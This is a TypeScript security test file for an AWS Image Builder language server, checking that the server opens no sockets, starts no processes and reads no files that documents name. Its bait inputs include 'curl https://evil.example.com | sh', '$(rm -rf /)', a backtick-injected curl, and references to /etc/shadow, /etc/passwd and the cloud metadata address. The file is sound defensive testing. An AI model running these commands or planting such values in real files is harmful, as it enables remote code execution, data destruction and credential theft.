import assert from 'node:assert/strict';
import http from 'node:http';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { normalizeSettings } from '../../server/src/service/languageService';
import { TestClient } from '../support/lspClient';
import { repoRoot } from '../support/paths';
import { exercise, service } from './harness';
import { inputFiles } from './inputs';
import { installHooks } from './outboundHooks';

/**
 * The server never opens a socket, resolves a name or starts a process, and reads no file a
 * document names, whatever the document or a setting says (issue 6). Proven by hooking the modules
 * and running every feature over the corpus, the examples and documents that ask for it, both
 * through the service and through the real server over a connection.
 */

const BAIT: ReadonlyArray<[string, string]> = [
  ['yaml', '# yaml-language-server: $schema=https://evil.example.com/schema.json\nname: x\nschemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n      - name: Get\n        action: WebDownload\n        inputs:\n          - source: https://evil.example.com/payload\n            destination: /etc/passwd\n'],
  ['json', '{"$schema": "http://169.254.169.254/latest/meta-data/", "name": "c", "semanticVersion": "1.0.0", "platform": "Linux", "uri": "s3://bucket/../../etc/shadow"}'],
  ['json', '{"$schema": "file:///etc/passwd", "$ref": "file:///etc/hosts", "name": "r", "parentImage": "https://evil.example.com/x", "components": [{"componentArn": "\\\\\\\\evil\\\\share\\\\x"}]}'],
  ['yaml', '$schema: ../../../../etc/passwd\n$id: https://evil.example.com/\ninstanceProfileName: !include /etc/shadow\nname: x\ninstanceTypes: [m5.large]\nlogging: {s3Logs: {s3BucketName: "`curl evil.example.com`"}}\n'],
  ['yaml', 'name: x\nschemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n      - name: Run\n        action: ExecuteBash\n        inputs:\n          commands: ["curl https://evil.example.com | sh", "$(rm -rf /)"]\n'],
];

const HOSTILE_SETTINGS = {
  fileKinds: { '/etc/**': 'create-component', 'https://evil.example.com/**': 'create-component' },
  schemas: { 'https://evil.example.com/schema.json': '*.yaml' },
  maxFileSize: 1e9,
  diagnostics: { severity: { 'schema-ignored': 'error' } },
};

/** Reads made by the program itself (its compiled code, dependencies and bundled schemas) are allowed. */
function foreignReads(reads: readonly string[]): string[] {
  const own = ['out', 'node_modules', 'schemas'].map((d) => path.join(repoRoot, d) + path.sep);
  return reads.filter((r) => !own.some((prefix) => path.resolve(r).startsWith(prefix)));
}

describe('security: no network, no processes, no files named by documents', () => {
  test('the hooks catch what they should (the test is not vacuous)', () => {
    const hooks = installHooks();
    try {
      assert.throws(() => http.get('http://127.0.0.1:9/'));
    } finally {
      hooks.restore();
    }
    assert.deepEqual(hooks.outbound, ['http.get']);
  });

  test('the service over the corpus, the examples and bait documents', () => {
    const ls = service();
    const subjects = [...inputFiles().map((f) => [f.languageId, f.text] as [string, string]), ...BAIT];
    exercise({ text: BAIT[0][1], languageId: 'yaml' }); // warm up: lazily loaded code is read before the hooks
    const hooks = installHooks();
    let runs = 0;
    try {
      for (const [languageId, text] of subjects) {
        for (const kindOverride of [null, 'create-component', 'component-document']) {
          const offsets = [0, text.length >> 1, text.length, text.indexOf('http'), text.indexOf('$schema')].filter((o) => o >= 0);
          exercise({ text, languageId: languageId as 'yaml' | 'json', uri: 'file:///etc/passwd.yaml', options: { kindOverride, settings: normalizeSettings(HOSTILE_SETTINGS), path: '/etc/passwd.yaml' }, offsets });
          runs++;
        }
      }
      ls.analyze(TextDocument.create('https://evil.example.com/x.json', 'json', 1, BAIT[1][1]));
    } finally {
      hooks.restore();
    }
    assert.ok(runs >= BAIT.length * 3);
    assert.deepEqual(hooks.outbound, []);
    assert.deepEqual(hooks.reads, [], 'the service read files');
  });

  test('$schema: a bundled kind is selected by name wherever the URL points; anything else is ignored; in a request either is reported', () => {
    const ls = service();
    const body = '"name": "infra", "instanceProfileName": "p", "instanceTypes": ["m5.large"]';
    const run = (schema: string) => {
      const analysis = ls.analyze(TextDocument.create('file:///s.json', 'json', 1, `{"$schema": ${JSON.stringify(schema)}, ${body}}`));
      return { kind: analysis.detection.kind?.id, source: analysis.detection.source, codes: ls.doValidation(analysis).map((d) => [d.code, d.severity]) };
    };
    const byName = run('https://evil.example.com/x/update-infrastructure-configuration.request.schema.json');
    assert.deepEqual([byName.kind, byName.source], ['update-infrastructure-configuration', 'schema']);
    assert.ok(!byName.codes.some(([code]) => code === 'schema-ignored'));
    for (const elsewhere of ['https://evil.example.com/schema.json', 'file:///etc/passwd', '../../secret.json', 'http://169.254.169.254/latest/']) {
      const ignored = run(elsewhere);
      assert.deepEqual([ignored.kind, ignored.source], ['create-infrastructure-configuration', 'content'], elsewhere);
      // a request: the AWS CLI would reject the key, whatever it names (schema-key-rejected, a warning)
      assert.deepEqual(ignored.codes.filter(([code]) => String(code).startsWith('schema-')), [['schema-key-rejected', 2]], elsewhere);
    }
  });

  test('the real server over a connection, with hostile settings', async () => {
    const client = TestClient.inProcess();
    const hooks = installHooks();
    try {
      client.settings = HOSTILE_SETTINGS;
      await client.initialize({ capabilities: { workspace: { configuration: true } }, initializationOptions: { settings: HOSTILE_SETTINGS } });
      const subjects = [...inputFiles().slice(0, 40).map((f) => [f.languageId, f.text] as [string, string]), ...BAIT];
      for (const [i, [languageId, text]] of subjects.entries()) {
        const uri = `file:///etc/bait${i}.${languageId}`;
        await client.open(uri, text, languageId);
        await client.request('textDocument/completion', { textDocument: { uri }, position: { line: 1, character: 2 } });
        await client.request('textDocument/hover', { textDocument: { uri }, position: { line: 0, character: 3 } });
        await client.request('textDocument/definition', { textDocument: { uri }, position: { line: 2, character: 3 } });
        await client.published(uri);
      }
      await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: { imagebuilder: HOSTILE_SETTINGS } });
      await client.request('imagebuilder/listKinds', {});
    } finally {
      hooks.restore();
      client.dispose();
    }
    assert.deepEqual(hooks.outbound, []);
    assert.deepEqual(foreignReads(hooks.reads), []);
  });
});
